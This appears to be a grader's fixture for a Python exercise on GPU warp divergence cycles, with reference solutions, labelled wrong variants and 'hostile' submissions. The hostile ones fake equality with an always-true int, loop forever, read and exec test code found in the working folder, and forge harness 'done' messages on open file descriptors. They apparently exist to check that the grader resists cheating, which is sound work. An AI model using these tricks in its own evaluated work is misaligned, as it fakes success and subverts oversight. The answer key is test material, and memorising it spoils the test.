# %% right: reference
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    total = 0
    for start in range(0, len(branch_of_thread), warp_size):
        branches = set(branch_of_thread[start : start + warp_size])
        total += sum(cycles_of_branch[branch] for branch in branches)
    return total

# %% right: recursive
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    if not branch_of_thread:
        return 0
    first = sum(cycles_of_branch[branch] for branch in dict.fromkeys(branch_of_thread[:warp_size]))
    return first + divergent_cycles(branch_of_thread[warp_size:], cycles_of_branch, warp_size)

# %% right: pairs of (warp, branch), NumPy
import numpy as np


def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    branches = np.asarray(branch_of_thread, dtype=int)
    pairs = np.unique(np.stack([np.arange(branches.size) // warp_size, branches]), axis=1)
    return np.sum([cycles_of_branch[branch] for branch in pairs[1].tolist()], dtype=np.int64)

# %% wrong: pays per thread — says "not once for each thread"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    return sum(cycles_of_branch[branch] for branch in branch_of_thread)

# %% wrong: takes the longest branch only — says "not only the longest" — from "reference"
# -         branches = set(branch_of_thread[start : start + warp_size])
# -         total += sum(cycles_of_branch[branch] for branch in branches)
# +         total += max(cycles_of_branch[branch] for branch in branch_of_thread[start : start + warp_size])

# %% wrong: ignores the last, short warp — says "last warp is short"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    total = 0
    for warp in range(len(branch_of_thread) // warp_size):
        total += sum(cycles_of_branch[b] for b in set(branch_of_thread[warp * warp_size : (warp + 1) * warp_size]))
    return total

# %% wrong: every warp pays for every branch that there is — says "no lane of a warp takes"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    return -(-len(branch_of_thread) // warp_size) * sum(cycles_of_branch.values())

# %% wrong: all threads as one warp — says "cut the threads into warps"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    return sum(cycles_of_branch[branch] for branch in set(branch_of_thread))

# %% wrong: warps of 32 whatever is asked — says "is warp_size, not 32 here"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    warps = [branch_of_thread[start : start + 32] for start in range(0, len(branch_of_thread), 32)]
    return sum(cycles_of_branch[branch] for warp in warps for branch in set(warp))

# %% wrong: a set of costs, not of branches — says "cost the same are still two"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    warps = [branch_of_thread[at : at + warp_size] for at in range(0, len(branch_of_thread), warp_size)]
    return sum(sum({cycles_of_branch[branch] for branch in warp}) for warp in warps)

# %% wrong: deals threads out to warps like cards — says "Neighbors make a warp"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    warps = max(1, -(-len(branch_of_thread) // warp_size))
    return sum(cycles_of_branch[b] for warp in range(warps) for b in set(branch_of_thread[warp::warps]))

# %% wrong: a float — says "expected an int"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    total = 0.0
    for start in range(0, len(branch_of_thread), warp_size):
        total += sum(cycles_of_branch[branch] for branch in set(branch_of_thread[start : start + warp_size]))
    return total

# %% wrong: one list entry a warp instead of the sum — says "a list"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    warps = [set(branch_of_thread[at : at + warp_size]) for at in range(0, len(branch_of_thread), warp_size)]
    return [sum(cycles_of_branch[branch] for branch in warp) for warp in warps]

# %% wrong: returns inside the loop — says "first warp only" — from "a float": ".0" → "", "    return" → "        return"

# %% wrong: counts branches, not cycles — says "add up their cycles"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    return sum(len(set(branch_of_thread[at : at + warp_size])) for at in range(0, len(branch_of_thread), warp_size))

# %% wrong: eats its argument — says "changed an argument"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    total = 0
    while branch_of_thread:
        total += sum(cycles_of_branch[branch] for branch in set(branch_of_thread[:warp_size]))
        del branch_of_thread[:warp_size]
    return total

# %% wrong: prints instead of returning — says "is there a return statement" — from "a float": ".0" → "", "return total" → "print(total)"

# %% hostile: an int equal to everything — earns 0
class Anything(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    return Anything(0)

# %% hostile endless: never comes back — earns 0
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    while True:
        pass

# %% hostile: reads the tests from the folder it runs in — earns 0
import glob
import re

stolen = ""
for path in glob.glob("**/*.ipynb", recursive=True) + glob.glob("**/*.md", recursive=True):
    try:
        stolen += open(path).read()
    except OSError:
        pass
helper = re.search(r"def by_hand\(branches, costs, size\):\n    return .*", stolen)
if helper:
    exec(helper.group(0))


def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    return by_hand(branch_of_thread, cycles_of_branch, warp_size)  # NameError where nothing could be stolen

# %% wrong: the branch of most lanes — says "not only one of them"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    total = 0
    for at in range(0, len(branch_of_thread), warp_size):
        warp = branch_of_thread[at : at + warp_size]
        total += cycles_of_branch[max(sorted(set(warp)), key=warp.count)]
    return total

# %% wrong: the longest warp — says "the cycles of all warps"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    warps = [branch_of_thread[at : at + warp_size] for at in range(0, len(branch_of_thread), warp_size)]
    return max((sum(cycles_of_branch[branch] for branch in set(warp)) for warp in warps), default=0)

# %% hostile: answers every request whose number it finds in its memory
import gc
import json
import os
import struct


def divergent_cycles(*arguments):
    known = [one.get("id") for one in gc.get_objects() if type(one) is dict]
    for token in {one for one in known if isinstance(one, str) and len(one) == 16}:
        done = {"value": {"t": [0, []]}, "changed": False}
        text = json.dumps({"h": {"id": token, "done": done}, "n": []}).encode()
        for number in range(3, 12):
            try:
                os.write(number, struct.pack("<I", len(text)) + text)
            except OSError:
                pass
    return -1

# %% wrong: every warp pays for every branch that a thread takes — says "no lane of a warp takes" — from "reference": "branch_of_thread[start : start + warp_size]" → "branch_of_thread"

# %% wrong: warps that diverge pay for all branches — says "no lane of a warp takes" — from "reference": "in branches" → "in (branches if len(branches) == 1 else cycles_of_branch)"

# %% wrong: a short warp filled with branch 0 — says "lanes that it does not have" — from "reference"
# -         branches = set(branch_of_thread[start : start + warp_size])
# +         lanes = branch_of_thread[start : start + warp_size]
# +         branches = set(lanes + [0] * (warp_size - len(lanes)))

# %% wrong: keeps the branches of earlier warps — says "Start each warp afresh" — from "reference": "[start : " → "[: "

# %% wrong: sorts the threads first — says "do not sort it" — from "reference": "set(branch_of_thread[" → "set(sorted(branch_of_thread)["

# %% wrong: the last thread of each warp is missing — says "The last thread of each warp is missing" — from "reference": "+ warp_size]" → "+ warp_size - 1]"

# %% wrong: compares a warp's first and last thread — says "not only at the first and the last" — from "reference"
# -         branches = set(branch_of_thread[start : start + warp_size])
# +         warp = branch_of_thread[start : start + warp_size]
# +         branches = {warp[0], warp[-1]}

# %% wrong: pays at every change of the branch — says "however often its lanes alternate"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    total = 0
    for thread, branch in enumerate(branch_of_thread):
        if thread % warp_size == 0 or branch != branch_of_thread[thread - 1]:
            total += cycles_of_branch[branch]
    return total

# %% wrong: warps that are alike are paid for once — says "are still two, and each of them pays"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    starts = range(0, len(branch_of_thread), warp_size)
    warps = {tuple(branch_of_thread[start : start + warp_size]) for start in starts}
    return sum(cycles_of_branch[branch] for warp in warps for branch in set(warp))

# %% wrong: a warp of idle lanes after the last one — says "no other warp follows"
def divergent_cycles(branch_of_thread, cycles_of_branch, warp_size=32):
    padded = branch_of_thread + [0] * (warp_size - len(branch_of_thread) % warp_size)
    warps = [padded[start : start + warp_size] for start in range(0, len(padded), warp_size)]
    return sum(cycles_of_branch[branch] for warp in warps for branch in set(warp))

# %% wrong: the first thread of the next warp counts, too — says "the slices must not overlap" — from "reference": "start + warp_size]" → "start + warp_size + 1]"

# %% wrong: goes on with the sum of the call before — says "includes the call before" — from "reference": "warp_size=32):" → "warp_size=32, sums=[0]):", "    total = 0" → "    total = sums[0]", "return total" → "sums[0] = total; return total"

# %% wrong: a cycle for the check — says "add nothing for the check" — from "reference": "total += sum(" → "total += (len(branches) > 1) + sum("

# %% wrong: knows two branches — says "any number of branches" — from "reference": "for branch in branches)" → "for branch in branches & {0, 1})"

# %% wrong: warp number w begins at thread w — says "not at thread w" — from "reference": "range(0, len(branch_of_thread), warp_size)" → "range(-(-len(branch_of_thread) // warp_size))"

# %% wrong: the dearest and the cheapest branch — says "more than two branches" — from "reference"
# -         total += sum(cycles_of_branch[branch] for branch in branches)
# +         costs = [cycles_of_branch[branch] for branch in branches]
# +         total += max(costs) + (min(costs) if len(branches) > 1 else 0)

# %% wrong: the first two branches of each warp — says "only two branches" — from "reference": "set(branch_of_thread[start : start + warp_size])" → "sorted(set(branch_of_thread[start : start + warp_size]))[:2]"

# %% wrong: the costs as a list — says "Branches are the keys" — from "reference": "    total = 0" → "    total, costs = 0, list(cycles_of_branch.values())", "cycles_of_branch[branch] for" → "costs[branch] for"

# %% wrong: two branches, as in the example — says "which need not be" — from "reference"
# -         total += sum(cycles_of_branch[branch] for branch in branches)
# +         first, *others = branches
# +         total += cycles_of_branch[0] + cycles_of_branch[1] if others else cycles_of_branch[first]

# %% wrong: adds the branches, not their cycles — says "cycles_of_branch[b] cycles, not b" — from "reference": "sum(cycles_of_branch[branch] for branch in branches)" → "sum(branches)"

# %% wrong: stops a warp early — says "No warp was counted" — from "reference": "len(branch_of_thread), warp_size" → "len(branch_of_thread) - warp_size, warp_size"

# %% wrong: adds nothing to the sum — says "does each warp add its cycles" — from "reference": "total += sum(" → "of_warp = sum("

# %% wrong: the mean of the warps — says "do not divide by their number" — from "reference": "return total" → "return total // max(1, -(-len(branch_of_thread) // warp_size))"

# %% wrong: a warp that agrees costs nothing — says "A warp whose lanes agree" — from "reference": "total += sum(" → "total += len(branches) > 1 and sum("

# %% wrong: the cheapest branch is subtracted — says "no cycles are subtracted" — from "reference": "sum(cycles_of_branch[branch] for branch in branches)" → "max(map(cycles_of_branch.get, branches)) - min(map(cycles_of_branch.get, branches))"

# %% wrong: slices that all end at warp_size — says "end warp_size threads after its start" — from "reference": "[start : start + warp_size]" → "[start:warp_size]"

# %% wrong: only the branches 0, 1, and 2 — says "leave none out" — from "reference": "for branch in branches)" → "for branch in branches if branch < 3)"

# %% wrong: a branch of 0 cycles costs one — says "A branch may cost 0 cycles" — from "reference": "sum(cycles_of_branch[branch] for" → "sum(cycles_of_branch[branch] or 1 for"
